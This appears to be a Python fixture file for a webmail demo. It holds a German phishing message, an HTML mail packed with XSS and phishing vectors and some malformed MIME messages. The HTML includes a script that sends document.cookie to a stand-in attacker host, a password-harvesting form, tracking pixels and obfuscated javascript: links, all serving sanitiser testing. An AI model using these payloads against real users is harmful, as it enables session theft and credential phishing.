"""Mail that should not exist and comes every day: hostile and broken messages."""

HOSTILE_TEXT = """Sehr geehrter Nutzer,

Ihr Postfach wird HEUTE gesperrt. Bestätigen Sie Ihr Passwort unter
https://postfach.schule.example/pruefung

javascript:alert(document.cookie)
https://schule.example@postfach-pruefung.example/anmelden

IT-Support
"""

# Every line is an attack known from real mail; a reader of the demo may see what becomes of each.
HOSTILE_HTML = """<!DOCTYPE html>
<html><head><meta http-equiv="refresh" content="0;url=https://postfach-pruefung.example/">
<base href="https://postfach-pruefung.example/"><title>Posteingang</title>
<link rel="stylesheet" href="https://postfach-pruefung.example/a.css">
<style>body{background:url(https://postfach-pruefung.example/css.gif)}
header,nav{display:none!important}</style>
<script>document.location='https://postfach-pruefung.example/?'+document.cookie</script></head>
<body onload="alert('onload')" background="https://postfach-pruefung.example/bg.gif">
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff">
<h2 style="color:#a4262c">Ihr Postfach wird heute gesperrt</h2>
<p>Sehr geehrter Nutzer, bitte best&auml;tigen Sie Ihr Passwort:
<a href="https://postfach-pruefung.example/anmelden">https://postfach.schule.example/pruefung</a></p>
<p><a href="javascript:alert(document.cookie)">Hier klicken</a> oder
<a href="JaVa&#10;ScRiPt:alert(1)">hier</a> oder
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">hier</a></p>
<form action="https://postfach-pruefung.example/sammeln" method="post">
<input name="kennwort" type="password" placeholder="Passwort"><button>Best&auml;tigen</button></form>
<img src="x" onerror="alert('onerror')" alt="">
<img src="https://postfach-pruefung.example/pixel.gif?m=marlene.krause" width="1" height="1" alt="">
<svg onload="alert('svg')"><animate attributeName="href" values="javascript:alert(1)"/></svg>
<math><mtext><style><img src=x onerror=alert(2)></style></mtext></math>
<iframe src="https://postfach-pruefung.example/rahmen"></iframe>
<object data="https://postfach-pruefung.example/o.swf"></object>
<div hx-get="/session/sign-out" hx-trigger="load" data-hx-post="/mailbox/undo" hx-on:load="alert(3)">.</div>
<p style="background-image:url('https://postfach-pruefung.example/s.gif');width:expression(alert(4))">
Ihr Team</p>
</div></body></html>
"""

MISSING_BYTES = b"JVBERi0xLjQKJeLjz9MKMSAwIG9iago8PC9UeXBlL0NhdGFsb2cvUGFnZXMgMiAwIFI+PgplbmRvYmoK"


def cut(head: bytes) -> bytes:
    """A scan whose sender gave up in the middle: the closing boundary never came."""
    return (
        head + b'Content-Type: multipart/mixed;\r\n boundary="=_scan_0815"\r\n\r\n'
        b"--=_scan_0815\r\nContent-Type: text/plain; charset=iso-8859-1\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n"
        b"Ihr Scan vom Kopierer im 2. Obergeschoss, 3 Seiten, Aufl\xf6sung 300 dpi.\r\n"
        b"--=_scan_0815\r\nContent-Type: application/pdf; name=Scan_2026.pdf\r\n"
        b"Content-Disposition: attachment; filename=Scan_2026.pdf\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + MISSING_BYTES + b"\r\n" + MISSING_BYTES[:31]
    )


def mislabelled(head: bytes, text: str) -> bytes:
    """Says us-ascii and seven bit, is windows-1252 and eight; an unknown charset would do as well."""
    return (
        head + b"Content-Type: text/plain; charset=x-unbekannt\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
    ) + text.replace("\n", "\r\n").encode("cp1252", "replace")


def headless() -> bytes:
    """No header at all, only what a fax gateway found worth sending."""
    return (
        b"\r\nFAXEINGANG 03:12 UHR\r\n2 Seiten von +49 361 555 0199\r\n"
        b"\xdcbertragung abgebrochen, Seite 2 unvollst\xe4ndig.\r\n"
    )
